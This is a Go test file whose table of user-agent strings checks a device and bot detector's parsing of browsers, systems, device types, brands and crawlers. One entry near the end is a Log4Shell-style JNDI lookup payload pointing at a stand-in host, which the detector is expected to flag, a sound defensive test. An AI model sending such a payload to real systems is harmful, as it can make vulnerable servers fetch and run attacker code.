package device

import (
	"fmt"
	"strings"
	"testing"
)

// agents are handwritten in the shapes of the wild: what Detect says of each is
// "browser version | system version | type | brand model", and for bots
// "bot name reason".
var agents = []struct {
	ua    string
	hints Hints
	want  string
}{
	// Desktop browsers.
	{ua: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36", want: "Chrome 126.0 | Windows 10 | desktop | "},
	{ua: "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36", want: "Chrome 126.0 | macOS 10.15 | desktop | Apple Mac"},
	{ua: "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36", want: "Chrome 126.0 | GNU/Linux | desktop | "},
	{ua: "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36", want: "Chrome 126.0 | ChromeOS | desktop | "},
	{ua: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36 Edg/126.0.2592.87", want: "Edge 126.0 | Windows 10 | desktop | "},
	{ua: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/64.0.3282.140 Safari/537.36 Edge/18.17763", want: "Edge 18.17763 | Windows 10 | desktop | "},
	{ua: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36 OPR/111.0.0.0", want: "Opera 111.0 | Windows 10 | desktop | "},
	{ua: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 YaBrowser/24.6.0.0 Safari/537.36", want: "Yandex Browser 24.6 | Windows 10 | desktop | "},
	{ua: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36 Vivaldi/6.8.3381.44", want: "Vivaldi 6.8 | Windows 10 | desktop | "},
	{ua: "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:78.0) Gecko/20100101 Firefox/78.0", want: "Firefox 78.0 | macOS 10.15 | desktop | Apple Mac"},
	{ua: "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0", want: "Firefox 127.0 | GNU/Linux | desktop | "},
	{ua: "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15", want: "Safari 17.5 | macOS 10.15 | desktop | Apple Mac"},
	{ua: "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko", want: "Internet Explorer 11.0 | Windows 7 | desktop | "},
	{ua: "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0)", want: "Internet Explorer 8.0 | Windows XP | desktop | "},
	{ua: "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1; Trident/7.0; .NET4.0C; .NET4.0E)", want: "Internet Explorer 11.0 | Windows 7 | desktop | "},
	{ua: "Mozilla/5.0 (X11; FreeBSD amd64; rv:120.0) Gecko/20100101 Firefox/120.0", want: "Firefox 120.0 | Unix | desktop | "},
	{ua: "Opera/9.80 (Windows NT 6.1; U; en) Presto/2.12.388 Version/12.18", want: "Opera 12.18 | Windows 7 | desktop | "},
	{ua: "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Safari/605.1.15 Epiphany/605.1.15", want: "GNOME Web 605.1 | GNU/Linux | desktop | "},
	{ua: "Lynx/2.9.0dev.12 libwww-FM/2.14 SSL-MM/1.4.1 GNUTLS/3.7.8", want: "Lynx 2.9 |  | desktop | "},

	// Client hints tell what the frozen agent hides.
	{
		ua:    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
		hints: Hints{UA: `"Not/A)Brand";v="8", "Chromium";v="126", "Brave";v="126"`, Mobile: "?0", Platform: `"Windows"`, PlatformVersion: `"15.0.0"`},
		want:  "Brave 126 | Windows 11 | desktop | ",
	},
	{
		ua:    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
		hints: Hints{UA: `"Not/A)Brand";v="8", "Chromium";v="126", "DuckDuckGo";v="126"`, Platform: `"Windows"`, PlatformVersion: `"10.0.0"`},
		want:  "DuckDuckGo 126 | Windows 10 | desktop | ",
	},
	{
		ua:    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
		hints: Hints{FullVersionList: `"Not/A)Brand";v="8.0.0.0", "Chromium";v="126.0.6478.127", "Google Chrome";v="126.0.6478.127"`, Platform: `"macOS"`, PlatformVersion: `"14.5.0"`},
		want:  "Chrome 126.0 | macOS 14.5 | desktop | Apple Mac",
	},
	{
		ua:    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Mobile Safari/537.36",
		hints: Hints{UA: `"Chromium";v="126", "Google Chrome";v="126"`, Mobile: "?1", Platform: `"Android"`, PlatformVersion: `"14.0.0"`, Model: `"Pixel 8 Pro"`},
		want:  "Chrome 126.0 | Android 14.0 | mobile | Google Pixel 8 Pro",
	},
	{ // a phone that asks for the desktop page
		ua:    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
		hints: Hints{Mobile: "?1", Platform: `"Android"`, PlatformVersion: `"13.0.0"`, Model: `"SM-A546B"`},
		want:  "Chrome 126.0 | Android 13.0 | mobile | Samsung SM-A546B",
	},
	{
		ua:    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
		hints: Hints{FormFactors: `"Automotive"`, Platform: `"Linux"`},
		want:  "Chrome 126.0 | GNU/Linux | car | ",
	},

	// iPhone and iPad.
	{ua: "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1", want: "Safari 17.5 | iOS 17.5 | mobile | Apple iPhone"},
	{ua: "Mozilla/5.0 (iPad; CPU OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.6 Mobile/15E148 Safari/604.1", want: "Safari 16.6 | iOS 16.6 | tablet | Apple iPad"},
	{ua: "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148", want: "iOS WebView | iOS | tablet | Apple iPad"},
	{ua: "Mozilla/5.0 (iPod touch; CPU iPhone OS 12_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/12.1.2 Mobile/15E148 Safari/604.1", want: "Safari 12.1 | iOS 12.5 | mobile | Apple iPod touch"},
	{ua: "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/126.0.6478.54 Mobile/15E148 Safari/604.1", want: "Chrome 126.0 | iOS 17.5 | mobile | Apple iPhone"},
	{ua: "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) FxiOS/127.0 Mobile/15E148 Safari/605.1.15", want: "Firefox 127.0 | iOS 17.5 | mobile | Apple iPhone"},
	{ua: "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 EdgiOS/126.0.2592.86 Mobile/15E148 Safari/605.1.15", want: "Edge 126.0 | iOS 17.5 | mobile | Apple iPhone"},
	{ua: "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) GSA/322.0.645008480 Mobile/15E148 Safari/604.1", want: "Google App 322.0 | iOS 17.5 | mobile | Apple iPhone"},
	{ua: "Mozilla/5.0 (iPhone; CPU iPhone OS 16_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148", want: "iOS WebView | iOS 16.1 | mobile | Apple iPhone"},

	// Views of apps.
	{ua: "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/21F90 [FBAN/FBIOS;FBAV/468.0.0.32.109;FBBV/610382765;FBDV/iPhone15,3;FBMD/iPhone;FBSN/iOS;FBSV/17.5.1;FBSS/3;FBLC/en_US]", want: "Facebook 468.0 | iOS 17.5 | mobile | Apple iPhone"},
	{ua: "Mozilla/5.0 (Linux; Android 14; SM-S918B Build/UP1A.231005.007; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/125.0.6422.165 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/467.1.0.52.83;]", want: "Facebook 467.1 | Android 14 | mobile | Samsung SM-S918B"},
	{ua: "Mozilla/5.0 (Linux; Android 13; SM-G991B Build/TP1A.220624.014; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/125.0.6422.165 Mobile Safari/537.36 [FB_IAB/MESSENGER;FBAV/460.0.0.45.109;]", want: "Messenger 460.0 | Android 13 | mobile | Samsung SM-G991B"},
	{ua: "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Instagram 337.0.2.24.92 (iPhone14,5; iOS 17_5_1; en_US; en; scale=3.00; 1170x2532; 613226110)", want: "Instagram 337.0 | iOS 17.5 | mobile | Apple iPhone"},
	{ua: "Mozilla/5.0 (Linux; Android 12; M2101K6G Build/SKQ1.210908.001; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/116.0.0.0 Mobile Safari/537.36 XWEB/1160065 MMWEBSDK/20230805 MicroMessenger/8.0.42.2460(0x28002A58) WeChat/arm64", want: "WeChat 8.0 | Android 12 | mobile | Xiaomi M2101K6G"},
	{ua: "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Safari Line/14.9.0", want: "Line 14.9 | iOS 17.4 | mobile | Apple iPhone"},
	{ua: "Mozilla/5.0 (Linux; Android 13; SM-A515F Build/TP1A.220624.014; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/125.0.6422.165 Mobile Safari/537.36 musical_ly_2023408040 JsSdk/1.0 NetType/WIFI BytedanceWebview/d8a21c6", want: "TikTok 2023408040 | Android 13 | mobile | Samsung SM-A515F"},
	{ua: "Mozilla/5.0 (Linux; Android 11; Redmi Note 9 Build/RP1A.200720.011; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/120.0.6099.144 Mobile Safari/537.36", want: "Android WebView 120.0 | Android 11 | mobile | Xiaomi Redmi Note 9"},

	{ua: "Mozilla/5.0 (Linux; Android 14; 2201116SG Build/UKQ1; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/125.0.6422.147 Mobile Safari/537.36 Viber/22.5.0.1", want: "Viber 22.5 | Android 14 | mobile | 2201116SG"},
	{ua: "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Slack/4.38.125 Chrome/124.0.6367.119 Electron/30.0.2 Safari/537.36 AppleSilicon", want: "Slack 4.38 | macOS 10.15 | desktop | Apple Mac"},
	{ua: "ahoy-ios/1.0 CFNetwork/1404.0.5 Darwin/22.3.0", want: " | iOS |  | Apple"},

	// Android phones and tablets.
	{ua: "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Mobile Safari/537.36", want: "Chrome 126.0 | Android 10 | mobile | "},
	{ua: "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36", want: "Chrome 126.0 | Android 10 | tablet | "},
	{ua: "Mozilla/5.0 (Android 14; Mobile; rv:127.0) Gecko/127.0 Firefox/127.0", want: "Firefox 127.0 | Android 14 | mobile | "},
	{ua: "Mozilla/5.0 (Android 13; Tablet; rv:127.0) Gecko/127.0 Firefox/127.0", want: "Firefox 127.0 | Android 13 | tablet | "},
	{ua: "Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-S921B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/25.0 Chrome/121.0.0.0 Mobile Safari/537.36", want: "Samsung Internet 25.0 | Android 14 | mobile | Samsung SM-S921B"},
	{ua: "Mozilla/5.0 (Linux; Android 13; SM-X906C Build/TP1A.220624.014) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36", want: "Chrome 126.0 | Android 13 | tablet | Samsung SM-X906C"},
	{ua: "Mozilla/5.0 (Linux; Android 12; SM-F926B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/102.0.0.0 Safari/537.36", want: "Chrome 102.0 | Android 12 | mobile | Samsung SM-F926B"},
	{ua: "Mozilla/5.0 (Linux; U; Android 11; en-US; RMX3085 Build/RP1A.200720.011) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/100.0.4896.58 UCBrowser/13.6.8.1318 Mobile Safari/537.36", want: "UC Browser 13.6 | Android 11 | mobile | Realme RMX3085"},
	{ua: "UCWEB/2.0 (MIDP-2.0; U; Adr 4.4.2; en-US; GT-I9060I) U2/1.0.0 UCBrowser/10.7.9.856 U2/1.0.0 Mobile", want: "UC Browser 10.7 | Android 4.4 | mobile | Samsung GT-I9060I"},
	{ua: "Mozilla/5.0 (Linux; arm_64; Android 13; 22101316G) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.219 YaBrowser/24.4.6.219.00 SA/3 Mobile Safari/537.36", want: "Yandex Browser 24.4 | Android 13 | mobile | 22101316G"},
	{ua: "Mozilla/5.0 (Linux; Android 12; ELS-NX9) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/114.0.5735.196 HuaweiBrowser/15.0.4.312 Mobile Safari/537.36", want: "Huawei Browser 15.0 | Android 12 | mobile | Huawei ELS-NX9"},
	{ua: "Mozilla/5.0 (Linux; U; Android 13; en-gb; Redmi Note 10 Pro Build/TKQ1.221013.002) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/112.0.5615.136 Mobile Safari/537.36 XiaoMi/MiuiBrowser/14.9.1-gn", want: "Mi Browser 14.9 | Android 13 | mobile | Xiaomi Redmi Note 10 Pro"},
	{ua: "Mozilla/5.0 (Linux; Android 13; CPH2413) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Mobile Safari/537.36 OPR/83.0.0.0", want: "Opera 83.0 | Android 13 | mobile | OPPO CPH2413"},
	{ua: "Opera/9.80 (Android; Opera Mini/36.2.2254/119.132; U; id) Presto/2.12.423 Version/12.16", want: "Opera Mini 36.2 | Android | mobile | "},
	{ua: "Mozilla/5.0 (Linux; Android 9; KFMAWI) AppleWebKit/537.36 (KHTML, like Gecko) Silk/108.4.6 like Chrome/108.0.5359.220 Safari/537.36", want: "Silk 108.4 | Android 9 | tablet | Amazon KFMAWI"},
	{ua: "Mozilla/5.0 (Linux; U; Android 4.0.3; de-de; Galaxy S II Build/GRJ22) AppleWebKit/534.30 (KHTML, like Gecko) Version/4.0 Mobile Safari/534.30", want: "Android Browser 4.0 | Android 4.0 | mobile | Samsung Galaxy S II"},
	{ua: "Mozilla/5.0 (Linux; Android 12; HarmonyOS; NOH-AN00; HMSCore 6.12.0.302) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/105.0.5195.148 HuaweiBrowser/14.0.2.300 Mobile Safari/537.36", want: "Huawei Browser 14.0 | HarmonyOS | mobile | NOH-AN00"},
	{ua: "Mozilla/5.0 (Linux; Android 10; CUBOT X30) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.152 Mobile Safari/537.36", want: "Chrome 88.0 | Android 10 | mobile | Cubot X30"},
	{ua: "Mozilla/5.0 (Linux; Android 7.0; M bot 51) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.138 Mobile Safari/537.36", want: "Chrome 81.0 | Android 7.0 | mobile | M bot 51"},
	{ua: "Mozilla/5.0 (Mobile; Nokia 2720 Flip; rv:48.0) Gecko/48.0 Firefox/48.0 KAIOS/2.5.2", want: "Firefox 48.0 | KaiOS 2.5 | mobile | Nokia"},
	{ua: "Mozilla/5.0 (compatible; MSIE 10.0; Windows Phone 8.0; Trident/6.0; IEMobile/10.0; ARM; Touch; NOKIA; Lumia 920)", want: "Internet Explorer 10.0 | Windows Phone 8.0 | mobile | Microsoft"},
	{ua: "Mozilla/5.0 (compatible; MSIE 9.0; Windows Phone OS 7.5; Trident/5.0; IEMobile/9.0; SAMSUNG; Omnia W)", want: "Internet Explorer 9.0 | Windows Phone 7.5 | mobile | Samsung"},
	{ua: "Nokia6300/2.0 (07.30) Profile/MIDP-2.0 Configuration/CLDC-1.1", want: " | Symbian | mobile | Nokia"},
	{ua: "Mozilla/5.0 (BB10; Touch) AppleWebKit/537.35+ (KHTML, like Gecko) Version/10.3.3.2205 Mobile Safari/537.35+", want: "BlackBerry Browser | BlackBerry | mobile | "},

	// Televisions.
	{ua: "Mozilla/5.0 (SMART-TV; Linux; Tizen 6.5) AppleWebKit/537.36 (KHTML, like Gecko) 85.0.4183.93/6.5 TV Safari/537.36", want: "Tizen Browser | Tizen 6.5 | tv | "},
	{ua: "Mozilla/5.0 (Web0S; Linux/SmartTV) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/94.0.4606.128 Safari/537.36 WebAppManager", want: "Chrome 94.0 | webOS | tv | "},
	{ua: "Mozilla/5.0 (Linux; Android 12; BRAVIA 4K VH22 Build/STT2.230203.001) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.144 Safari/537.36", want: "Chrome 120.0 | Android 12 | tv | Sony BRAVIA 4K VH22"},
	{ua: "Mozilla/5.0 (Linux; Android 11; 55U660GTS) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/110.0.0.0 Safari/537.36", want: "Chrome 110.0 | Android 11 | tv | 55U660GTS"},
	{ua: "Mozilla/5.0 (Linux; Android 9; AFTMM Build/PS7633; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/108.0.5359.220 Mobile Safari/537.36", want: "Android WebView 108.0 | Android 9 | tv | Amazon AFTMM"},
	{ua: "Roku/DVP-12.0 (12.0.0.4182-88)", want: " | Roku OS | tv | Roku"},
	{ua: "Mozilla/5.0 (X11; Linux armv7l) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/110.0.5481.211 Safari/537.36 CrKey/1.56.500000", want: "Chrome 110.0 | GNU/Linux | tv | "},
	{ua: "Mozilla/5.0 (Linux; Android 9; SHIELD Android TV Build/PPR1; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/99.0.4844.88 Mobile Safari/537.36", want: "Android WebView 99.0 | Android 9 | tv | Nvidia SHIELD Android TV"},
	{ua: "AppleTV11,1/11.1", want: " | tvOS | tv | Apple TV"},
	{ua: "Mozilla/5.0 (Linux; Andr0id 9; BRAVIA 4K UR2) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.146 Safari/537.36 OPR/46.0.2207.0 OMI/4.22.0.273", want: "Opera 46.0 | Android 9 | tv | Sony BRAVIA 4K UR2"},
	{ua: "HbbTV/1.4.1 (+DRM;Samsung;SmartTV2018:UE49NU7100;T-KTSUAKUC-1290.3;;) ", want: " |  | tv | Samsung"},

	// Consoles, watches, headsets, cars, speakers.
	{ua: "Mozilla/5.0 (PlayStation; PlayStation 5/6.00) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/15.4 Safari/605.1.15", want: "NetFront | PlayStation | console | Sony"},
	{ua: "Mozilla/5.0 (Windows NT 10.0; Win64; x64; Xbox; Xbox Series X) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36 Edg/126.0.0.0", want: "Edge 126.0 | Windows 10 | console | Microsoft"},
	{ua: "Mozilla/5.0 (Nintendo Switch; WifiWebAuthApplet) AppleWebKit/609.4 (KHTML, like Gecko) NF/6.0.2.21.3 NintendoBrowser/5.1.0.22474", want: "Nintendo Browser 5.1 | Nintendo | console | Nintendo"},
	{ua: "Mozilla/5.0 (Linux; Android 11; SAMSUNG SM-R870) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/3.1 Chrome/111.0.5563.116 Mobile Safari/537.36", want: "Samsung Internet 3.1 | Android 11 | wearable | Samsung SM-R870"},
	{ua: "MyApp/3.1 (Watch6,2; watchOS 9.4)", want: "MyApp 3.1 | watchOS 9.4 | wearable | Apple Watch"},
	{ua: "Mozilla/5.0 (X11; Linux x86_64; Quest 3) AppleWebKit/537.36 (KHTML, like Gecko) OculusBrowser/33.0.0.13.32 Chrome/124.0.6367.118 VR Safari/537.36", want: "Oculus Browser 33.0 | Android | wearable | Meta"},
	{ua: "Mozilla/5.0 (X11; GNU/Linux) AppleWebKit/537.36 (KHTML, like Gecko) Chromium/88.0.4324.150 Chrome/88.0.4324.150 Safari/537.36 Tesla/2021.44.25-b6a0f5f9", want: "Tesla Browser 2021.44 | GNU/Linux | car | Tesla"},
	{ua: "Mozilla/5.0 (Linux; Android 9; AEOHY) AppleWebKit/537.36 (KHTML, like Gecko) Silk/94.3.10 like Chrome/94.0.4606.126 Safari/537.36", want: "Silk 94.3 | Android 9 | other | Amazon AEOHY"},

	// Search engines.
	{ua: "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", want: "bot Googlebot agent"},
	{ua: "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.6478.114 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", want: "bot Googlebot agent"},
	{ua: "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36", want: "bot bingbot agent"},
	{ua: "DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)", want: "bot DuckDuckBot agent"},
	{ua: "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)", want: "bot Baiduspider agent"},
	{ua: "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)", want: "bot Applebot agent"},
	{ua: "Mozilla/5.0 (compatible; FooBarBot/1.0; +https://foobar.example/bot)", want: "bot FooBarBot agent"},
	{ua: "ExampleCrawler-Image/2.3 (crawler@example.org)", want: "bot ExampleCrawler-Image agent"},
	{ua: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36 (https://obscure.example/why)", want: "bot Safari agent"},

	// Language models.
	{ua: "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)", want: "bot GPTBot agent"},
	{ua: "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)", want: "bot ClaudeBot agent"},
	{ua: "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; PerplexityBot/1.0; +https://perplexity.ai/perplexitybot)", want: "bot PerplexityBot agent"},
	{ua: "CCBot/2.0 (https://commoncrawl.org/faq/)", want: "bot CCBot agent"},

	// Previews, monitors, feeds.
	{ua: "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", want: "bot facebookexternalhit agent"},
	{ua: "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", want: "bot Slackbot agent"},
	{ua: "TelegramBot (like TwitterBot)", want: "bot Twitterbot agent"},
	{ua: "Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)", want: "bot Discordbot agent"},
	{ua: "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", want: "bot UptimeRobot agent"},
	{ua: "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)", want: "bot Pingdom agent"},
	{ua: "Feedbin feed-id:1373711 - 142 subscribers", want: "bot Feedbin agent"},
	{ua: "kube-probe/1.29", want: "bot kube-probe agent"},

	// Browsers driven by programs; libraries; nothing at all.
	{ua: "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/126.0.6478.126 Safari/537.36", want: "bot HeadlessChrome headless"},
	{ua: "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36 Chrome-Lighthouse", want: "bot Lighthouse agent"},
	{ua: "Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) PhantomJS/2.1.1 Safari/538.1", want: "bot PhantomJS headless"},
	{ua: "curl/8.5.0", want: "bot curl http-library"},
	{ua: "Wget/1.21.4", want: "bot Wget http-library"},
	{ua: "python-requests/2.32.3", want: "bot python-requests http-library"},
	{ua: "Go-http-client/2.0", want: "bot Go-http-client http-library"},
	{ua: "okhttp/4.12.0", want: "bot okhttp http-library"},
	{ua: "axios/1.7.2", want: "bot axios http-library"},
	{ua: "Apache-HttpClient/4.5.14 (Java/17.0.11)", want: "bot Apache-HttpClient http-library"},
	{ua: "", want: "bot  no-agent"},
	{ua: "  ", want: "bot  no-agent"},
	{ua: "Mozilla/5.0", want: "bot Mozilla no-device-no-system"},
	{ua: "somethingunheardof/0.1", want: "bot somethingunheardof no-device-no-system"},
	{ua: "${jndi:ldap://evil.example/a}", want: "bot  payload"},
}

// line writes a device the way the table does.
func line(d Device) string {
	if d.Bot {
		return fmt.Sprintf("bot %s %s", d.BotName, d.BotReason)
	}
	join := func(a, b string) string { return strings.TrimSpace(a + " " + b) }
	return join(d.Browser, d.BrowserVersion) + " | " + join(d.OS, d.OSVersion) + " | " + d.Type + " | " + join(d.Brand, d.Model)
}

func TestDetect(t *testing.T) {
	d := New(1000)
	for _, a := range agents {
		for _, pass := range []string{"first", "remembered"} {
			got := d.Detect(a.ua, a.hints)
			if line(got) != a.want {
				t.Errorf("%s, %s:\n got %s\nwant %s", a.ua, pass, line(got), a.want)
			}
			if got.Bot != (got.Type == Bot) || got.Bot != (got.BotReason != "") {
				t.Errorf("%s: Bot, Type and BotReason disagree: %+v", a.ua, got)
			}
		}
	}
}

// TestAhoyWords is test_tech of Ahoy's own suite.
func TestAhoyWords(t *testing.T) {
	d := New(0)
	for _, c := range []struct{ ua, want string }{
		{"Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:78.0) Gecko/20100101 Firefox/78.0", "Firefox/Mac/Desktop"},
		{"Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1", "Safari/iOS/Mobile"},
		{"Mozilla/5.0 (SMART-TV; Linux; Tizen 6.5) AppleWebKit/537.36 (KHTML, like Gecko) TV Safari/537.36", "Tizen Browser/Tizen/TV"},
		{"Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36", "Chrome/Chrome OS/Desktop"},
	} {
		browser, os, kind := d.Detect(c.ua, Hints{}).AhoyWords()
		if got := browser + "/" + os + "/" + kind; got != c.want {
			t.Errorf("%s: got %s, want %s", c.ua, got, c.want)
		}
	}
}
